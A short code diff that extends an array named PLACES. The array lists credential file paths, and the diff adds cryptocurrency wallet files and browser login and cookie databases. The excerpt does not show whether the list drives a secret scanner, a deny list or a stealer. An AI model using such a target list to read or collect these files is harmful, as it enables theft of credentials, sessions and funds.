@@ -22,6 +22,8 @@ const PLACES = [
     '/.kaggle/kaggle.json',
   ],
   ...['/.claude/.credentials.json', '/.config/op/config', '/.fly/config.yml', '/.boto', '/.htpasswd'],
+  ...['/.ethereum/keystore/', '/.config/solana/id.json', '/.bitcoin/wallet.dat', '/.electrum/wallets/'],
+  ...['/Login Data', '/Cookies', '/logins.json', '/key4.db', '/cookies.sqlite'],
   ...['/Library/Keychains/', '/.local/share/keyrings/', '/.terraformrc', '/.config/configstore/firebase-tools.json'],
 ];
 
